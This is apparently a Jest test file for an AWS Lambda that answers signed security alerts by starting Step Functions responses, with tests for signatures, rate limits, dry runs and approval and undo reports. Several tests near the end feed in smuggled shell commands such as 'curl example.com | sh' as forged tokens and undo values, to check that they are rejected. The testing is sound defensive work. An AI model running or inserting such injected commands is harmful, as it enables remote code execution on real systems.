import type { SNSEvent } from 'aws-lambda';
import type { LedgerEntry } from '../../../lambda/aws/table/response-ledger';
import { isStepEvent, reportStep, toStepReport } from '../../../lambda/responder/report-step';
import { type ResponderPorts, respond } from '../../../lambda/responder/responder';
import type { Alert } from '../../../lib/core/alert/alert';
import { encodeOrigin } from '../../../lib/core/alert/mac/message-origin';
import { type ResponseReport, toPlan, toResponseAlert } from '../../../lib/core/response/response-plan';
import {
  decodeResponderSettings,
  encodeResponderSettings,
  type ResponderSettings,
} from '../../../lib/core/settings/responder-settings';
import { answeredAlert, NOW_MS, settingsOf } from '../../core/response/response-samples';

const MACHINE = 'arn:aws:states:eu-west-1:111122223333:stateMachine:start';
const ALERT = answeredAlert('start-logging');
const ACTING = { action: 'start-logging', ruleIds: [ALERT.ruleId], machineArn: MACHINE } as const;
const SIGNED_AT = new Date(NOW_MS).toISOString();
const ORIGIN = encodeOrigin({ signedAt: SIGNED_AT, mac: Buffer.alloc(32, 1) });

interface World {
  readonly ports: ResponderPorts;
  readonly started: unknown[];
  readonly reports: ResponseReport[];
  readonly notes: string[];
}

function worldOf(members: Partial<ResponderPorts> = {}): World {
  const started: unknown[] = [];
  const reports: ResponseReport[] = [];
  const notes: string[] = [];
  const ports: ResponderPorts = {
    verifyMac: async ({ mac }) => mac.every((byte) => byte === 1),
    countAction: async () => true,
    isCounted: async () => false,
    ...ledgerInMemory(),
    admitReport: admitInMemory(),
    startExecution: async (machineArn, name, plan) => {
      started.push({ machineArn, name, plan });
    },
    report: async (report) => {
      reports.push(report);
    },
    nowMs: () => NOW_MS,
    note: (message) => notes.push(message),
    ...members,
  };
  return { ports, started, reports, notes };
}

/** What the table does: what was noted of an action and its alert. */
function ledgerInMemory() {
  const entries = new Map<string, LedgerEntry>();
  const note = (key: string, entry: LedgerEntry) => void entries.set(key, { ...entries.get(key), ...entry });
  return {
    readLedger: async (action, alertId) => entries.get(`${action} ${alertId}`) ?? {},
    noteStarted: async (action, alertId) => note(`${action} ${alertId}`, { startedAt: SIGNED_AT }),
    noteOutcome: async (action, alertId, outcome) => note(`${action} ${alertId}`, { outcome }),
    leaseReport: async (action, alertId, after) =>
      [undefined, after].includes(entries.get(`${action} ${alertId}`)?.outcome),
  } satisfies Partial<ResponderPorts>;
}

/** What the table does: reports by action and hour. */
function admitInMemory(): ResponderPorts['admitReport'] {
  const hours = new Map<string, Map<string, boolean>>();
  return async ({ action, alertId, signedMs, most, isMade }) => {
    const hour = `${action} ${Math.floor(signedMs / 3_600_000)}`;
    const known = hours.get(hour) ?? new Map<string, boolean>();
    hours.set(hour, known);
    if (!known.has(alertId) && known.size >= most) return 'over';
    const wasMade = known.get(alertId) === true;
    known.set(alertId, wasMade || isMade);
    return wasMade ? 'made' : 'new';
  };
}

function eventOf(
  alert: Alert,
  origin = ORIGIN,
  topicArn = settingsOf().topicArn,
  Timestamp = SIGNED_AT,
): SNSEvent {
  const attributes = origin === '' ? {} : { origin: { Type: 'String', Value: origin } };
  const Sns = {
    Message: JSON.stringify(alert),
    MessageAttributes: attributes,
    TopicArn: topicArn,
    Timestamp,
  };
  return { Records: [{ Sns }] } as unknown as SNSEvent;
}

async function responded(
  event: SNSEvent,
  responses: ResponderSettings['responses'] = [ACTING],
  world = worldOf(),
): Promise<World> {
  await respond(event, { settings: settingsOf({ responses }), ports: world.ports });
  return world;
}

test('an alert starts the machine of its rule, named by the id of the alert', async () => {
  const { started, reports } = await responded(eventOf(ALERT));
  expect(started).toEqual([
    {
      ...{ machineArn: MACHINE, name: ALERT.id },
      plan: expect.objectContaining({
        action: 'start-logging',
        request: { trailArn: 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/main' },
      }),
    },
  ]);
  expect(reports).toEqual([]);
});

test('a dry run counts nothing and starts nothing: it reports what it would do', async () => {
  const world = worldOf({ countAction: async () => Promise.reject(new Error('counted')) });
  const { started, reports } = await responded(
    eventOf(ALERT),
    [{ ...ACTING, machineArn: undefined } as never],
    world,
  );
  expect(started).toEqual([]);
  expect(reports).toMatchObject([
    { outcome: 'would-act', plan: { resource: expect.stringMatching(/trail\/main$/) } },
  ]);
});

test.each([
  ['has no signature', eventOf(ALERT, '')],
  [
    'was signed with another key',
    eventOf(ALERT, encodeOrigin({ signedAt: SIGNED_AT, mac: Buffer.alloc(32, 2) })),
  ],
  [
    'was sent again later',
    eventOf(ALERT, encodeOrigin({ signedAt: '2026-11-20T02:59:59.000Z', mac: Buffer.alloc(32, 1) })),
  ],
  ['came over another topic', eventOf(ALERT, ORIGIN, 'arn:aws:sns:eu-west-1:111122223333:other')],
])('nothing is done about a message that %s, and it becomes a dead letter', async (_name, event) => {
  const world = worldOf();
  await expect(responded(event, [ACTING], world)).rejects.toThrow('not proven to be from trailwatch');
  expect([world.started, world.reports]).toEqual([[], []]);
});

test('an alert of a later version of trailwatch becomes a dead letter: no one responds to it', async () => {
  const world = worldOf();
  const later = { ...ALERT, version: 3 } as unknown as Alert;
  await expect(responded(eventOf(later), [ACTING], world)).rejects.toThrow(
    'not an alert of a version that this function supports',
  );
  expect([world.started, world.reports]).toEqual([[], []]);
});

test('an alert that was not acted on is reported once, however often it arrives', async () => {
  const world = worldOf();
  const refused = eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' }));
  for (const _ of [1, 2, 3]) await responded(refused, [ACTING], world);
  expect(world.reports).toHaveLength(1);
});

test('a report that could not be sent is sent when the alert arrives again', async () => {
  const failing = { report: async () => Promise.reject(new Error('SNS')) };
  const world = worldOf();
  const refused = eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' }));
  const broken = { ...world, ports: { ...world.ports, ...failing } };
  await expect(responded(refused, [ACTING], broken)).rejects.toThrow('SNS');
  await responded(refused, [ACTING], world);
  expect(world.reports).toHaveLength(1);
});

test('a report that was sent and could not be marked so is not sent again for that', async () => {
  const world = worldOf();
  let failures = 3;
  const admitReport: ResponderPorts['admitReport'] = async (report) => {
    if (report.isMade && failures-- > 0) throw new Error('Throttling');
    return world.ports.admitReport(report);
  };
  const refused = eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' }));
  await responded(refused, [ACTING], { ...world, ports: { ...world.ports, admitReport } });
  expect(world.reports).toHaveLength(1);
  expect(world.notes).toEqual(['a report was sent but could not be marked as sent']);
});

test('a state machine that cannot be started holds up no other response to the alert', async () => {
  const started: string[] = [];
  const world = worldOf({
    startExecution: async (machineArn) => {
      if (machineArn === MACHINE) throw new Error('StateMachineDoesNotExist');
      started.push(machineArn);
    },
  });
  const second = { ...ACTING, machineArn: MACHINE.replace('start', 'second') };
  await expect(responded(eventOf(ALERT), [ACTING, second], world)).rejects.toThrow(
    'StateMachineDoesNotExist',
  );
  expect(started).toEqual([second.machineArn]);
});

test('past the limit of the hour one report says that there are more, and the log has each', async () => {
  const world = worldOf();
  for (const id of ['a', 'b', 'c', 'd', 'd']) {
    const alert = { ...answeredAlert('start-logging', { eventName: 'DeleteTrail' }), id };
    await responded(eventOf(alert), [ACTING], world);
  }
  expect(world.reports.map(({ plan, why }) => [plan.alert.id, why])).toEqual([
    ['a', expect.stringMatching(/^only StopLogging .*trail$/)],
    ['b', expect.stringMatching(/trail$/)],
    [
      'c',
      expect.stringMatching(
        /; the limit of 2 reports per hour is reached: further reports .* only in the log of the function$/,
      ),
    ],
  ]);
  expect(world.notes).toEqual(Array(3).fill('there was no response to an alert, and no report'));
});

test.each([
  [{ outcome: 'zzz', plan: {} }, /^outcome "zzz" is not an outcome of a response$/],
  [{ outcome: 'toString', plan: {} }, /^outcome "toString" is not an outcome of a response$/],
  [
    { outcome: 'done', plan: { action: 'toString', alert: {} } },
    /no plan of Responder: action "toString" is none$/,
  ],
  [{ outcome: 'done', plan: { action: 'start-logging', alert: {} } }, /: alert\.id undefined is no text$/],
  [{ outcome: 'done', plan: null }, /no plan of Responder: it is no object$/],
])('fails in a sentence for a step %j', (step, message) => {
  expect(() => toStepReport(step as never)).toThrow(message);
});

test('an alert whose signature could not be checked is tried again', async () => {
  const world = worldOf({ verifyMac: async () => Promise.reject(new Error('KMS')) });
  await expect(responded(eventOf(ALERT), [ACTING], world)).rejects.toThrow('KMS');
  expect(world.started).toEqual([]);
});

test('the alert of another rule, and the own reports, start nothing', async () => {
  const report = toResponseAlert({ outcome: 'done', plan: toPlan(ALERT, 'start-logging') });
  for (const alert of [{ ...ALERT, ruleId: 'other' }, report]) {
    const { started, reports } = await responded(eventOf(alert));
    expect([started, reports]).toEqual([[], []]);
  }
});

test('past the limit of the hour nothing is started, and that is reported', async () => {
  const { started, reports } = await responded(
    eventOf(ALERT),
    [ACTING],
    worldOf({ countAction: async () => false }),
  );
  expect(started).toEqual([]);
  expect(reports).toMatchObject([{ outcome: 'refused', why: 'the limit of 2 actions per hour is reached' }]);
});

test.each([
  ['is too old now', [ACTING], NOW_MS + 400 * 60_000, 'the call was more than 360 minutes ago'],
  [
    'is a dry run now',
    [{ ...ACTING, machineArn: undefined } as never],
    NOW_MS,
    'the response is in dry-run mode',
  ],
])(
  'what an earlier attempt may have started is not reported as not done, although it %s',
  async (_name, responses, nowMs, why) => {
    const world = worldOf({ isCounted: async () => true, nowMs: () => nowMs });
    const { started, reports } = await responded(eventOf(ALERT), responses, world);
    expect(started).toEqual([]);
    expect(reports).toMatchObject([{ outcome: 'unknown', why }]);
    const { title, summary, firstSteps } = toResponseAlert(reports[0] as ResponseReport);
    expect(title).toBe('Not known whether done: logging started again');
    expect(summary).toMatch(
      new RegExp(`is not started again; an earlier attempt may have started it: ${why}$`),
    );
    expect(firstSteps).toEqual([expect.stringContaining(`an execution with the name ${ALERT.id}`)]);
  },
);

test.each(['done', 'failed', 'not-approved', 'asked', 'would-act', undefined])(
  'an alert that is signed again seven hours after its action was %s is never said to be not done',
  async (outcome) => {
    const world = worldOf();
    await responded(eventOf(ALERT), [ACTING], world);
    if (outcome !== undefined) {
      await reportStep({ outcome: outcome as never, plan: toPlan(ALERT, 'start-logging') }, world.ports);
    }
    const reported = world.reports.length;
    const nowMs = NOW_MS + 7 * 3_600_000;
    const signedAt = new Date(nowMs).toISOString();
    const event = eventOf(
      { ...ALERT },
      encodeOrigin({ signedAt, mac: Buffer.alloc(32, 1) }),
      undefined,
      signedAt,
    );
    const later = { ...world, ports: { ...world.ports, nowMs: () => nowMs } };
    await responded(event, [ACTING], later);
    await responded(event, [ACTING], later);
    expect(world.started).toHaveLength(1);
    expect(world.reports.slice(reported).map((report) => report.outcome)).toEqual(
      [undefined, 'asked', 'would-act'].includes(outcome) ? ['unknown'] : [],
    );
  },
);

test('an alert counts in the hour of its signature, whenever it is delivered', async () => {
  const counted: number[] = [];
  const countAction: ResponderPorts['countAction'] = async (_action, _alertId, signedMs) => {
    counted.push(signedMs);
    return true;
  };
  for (const minutes of [0, 70])
    await responded(
      eventOf(ALERT),
      [ACTING],
      worldOf({ countAction, nowMs: () => NOW_MS + minutes * 60_000 }),
    );
  expect(counted).toEqual([NOW_MS, NOW_MS]);
});

test('what an action cannot do is reported with the reason', async () => {
  const { reports } = await responded(eventOf(answeredAlert('start-logging', { eventName: 'DeleteTrail' })));
  expect(reports).toMatchObject([{ outcome: 'refused', why: expect.stringContaining('only StopLogging') }]);
});

test('a step of a machine is reported with its error, and with the token that approves it', () => {
  const plan = { ...toPlan(ALERT, 'start-logging'), failure: { Error: 'CloudTrail.X', Cause: 'gone' } };
  const failed = { outcome: 'failed', plan } as const;
  expect(isStepEvent(failed)).toBe(true);
  expect(isStepEvent(eventOf(ALERT))).toBe(false);
  expect(toStepReport(failed)).toMatchObject({ outcome: 'failed', why: 'CloudTrail.X: gone' });
  const asked = toStepReport({ outcome: 'asked', plan, taskToken: 'T'.repeat(2048) });
  expect(toResponseAlert(asked).firstSteps?.[0]).toMatch(/^Approve: aws .* --task-token T{2048}$/);
  expect(() => toStepReport({ outcome: 'done', plan: { action: 'format-disk' } })).toThrow(
    'no plan of Responder',
  );
});

test('a request for approval that could not be sent fails by its name, and one that is made again is another alert', async () => {
  const plan = toPlan(ALERT, 'start-logging');
  const report = async () => Promise.reject(new Error('SNS'));
  await expect(
    reportStep({ outcome: 'asked', plan, taskToken: 'T1' }, { ...worldOf().ports, report }),
  ).rejects.toMatchObject({
    name: 'ApprovalNotRequested',
    message: 'the request for approval could not be sent: Error: SNS',
  });
  await expect(reportStep({ outcome: 'done', plan }, { ...worldOf().ports, report })).rejects.toThrow(
    /^SNS$/,
  );
  const idOf = (taskToken: string) => toResponseAlert({ outcome: 'asked', plan, taskToken }).id;
  expect(new Set(['T1', 'T2', 'T1'].map(idOf)).size).toBe(2);
});

test.each([
  ['Error', '', 'instance i-1 was terminated'],
  ['AccessDenied', '', 'AccessDenied: instance i-1 was terminated'],
  ['Timeout', '\n    at f (x.js:1:1)\n    at async x.js:2:1', 'Timeout: instance i-1 was terminated'],
])(
  'of the %s of a function that acted, people read the message, and not the stack',
  (errorType, stack, why) => {
    const Cause = JSON.stringify({
      errorType,
      errorMessage: `instance i-1 was terminated${stack}`,
      trace: ['at x.js:1'],
    });
    const plan = { ...toPlan(ALERT, 'isolate-instance'), failure: { Error: errorType, Cause } };
    expect(toStepReport({ outcome: 'failed', plan })).toMatchObject({ why });
  },
);

test('a rejection without an error and a cause is reported without a reason', () => {
  const plan = { ...toPlan(ALERT, 'start-logging'), failure: { Error: '', Cause: '' } };
  const { summary, record } = toResponseAlert(toStepReport({ outcome: 'not-approved', plan }));
  expect(summary).toMatch(/was not approved; nothing was changed$/);
  expect(record).not.toHaveProperty('why');
});

test.each([
  ['a token', { taskToken: 'T; curl example.com | sh' }, /taskToken is not a Step Functions task token/],
  [
    'a command that takes it back',
    { undo: 'aws x; curl example.com' },
    /plan of Responder: undo is no command/,
  ],
  ['another program', { undo: 'curl example.com' }, /plan of Responder: undo is no command/],
])(
  'fails on a forged step with %s that would run something else',
  (_name, { taskToken, undo }: { taskToken?: string; undo?: string }, message) => {
    const plan = { ...toPlan(ALERT, 'start-logging'), ...(undo === undefined ? {} : { undo }) };
    const step = { outcome: 'asked', plan, ...(taskToken === undefined ? {} : { taskToken }) } as const;
    expect(() => toStepReport(step)).toThrow(message);
  },
);

test('what takes it back is what the function that acted says, where it says something', () => {
  const plan = { ...toPlan(ALERT, 'isolate-instance'), undo: 'aws before' };
  const commandsOf = (result: unknown) => {
    const report = toStepReport({ outcome: 'done', plan: { ...plan, result } });
    expect(toResponseAlert(report).resources).toEqual([]);
    return toResponseAlert(report).firstSteps;
  };
  expect(commandsOf({ undo: ['aws one', 'aws two'] })).toEqual(['To undo: aws one', 'To undo: aws two']);
  for (const result of [{}, { undo: [] }, { undo: 'aws' }, { undo: ['aws x | sh', 'curl x'] }, null]) {
    expect(commandsOf(result)).toEqual(['To undo: aws before']);
  }
});

test.each([
  ['a function that acted', { result: { undo: null } }],
  [
    'a failure that counts as done',
    { failure: { Error: 'Organizations.DuplicatePolicyAttachmentException' } },
  ],
])(
  'what was there already may be of an attempt before: %s says so, with what takes it back',
  (_name, state) => {
    const plan = { ...toPlan(ALERT, 'attach-guardrail'), undo: 'aws before', ...state };
    const { firstSteps } = toResponseAlert(toStepReport({ outcome: 'done', plan }));
    expect(firstSteps).toEqual([
      expect.stringContaining('Either someone else changed it, or an earlier attempt of this response did'),
      'To undo, if the response changed it: aws before',
    ]);
  },
);

test('only what was refused, or not approved, changed nothing: an action that failed may be half done', () => {
  const plan = { ...toPlan(ALERT, 'isolate-instance'), undo: 'aws before' };
  const stepsOf = (outcome: ResponseReport['outcome']) => toResponseAlert({ outcome, plan }).firstSteps;
  expect(stepsOf('failed')).toEqual([
    'Something may have changed before the action failed: check the resource, and complete or undo the action yourself.',
    'To undo: aws before',
  ]);
  for (const outcome of ['refused', 'not-approved'] as const)
    expect(stepsOf(outcome)).toEqual([expect.stringContaining('The responder changed nothing')]);
});

test('each step has an id of its own, the same at every attempt', () => {
  const plan = toPlan(ALERT, 'start-logging');
  const idOf = (outcome: ResponseReport['outcome']) => toResponseAlert({ outcome, plan }).id;
  expect(idOf('done')).toBe(idOf('done'));
  expect(new Set([idOf('done'), idOf('failed'), idOf('asked'), ALERT.id]).size).toBe(4);
});

test('settings are read as they were written', () => {
  const settings = settingsOf({ responses: [ACTING], memberAccounts: ['444455556666'] });
  expect(decodeResponderSettings(encodeResponderSettings(settings, JSON.stringify))).toEqual(settings);
  expect(() => decodeResponderSettings({})).toThrow('is not what Responder writes');
});
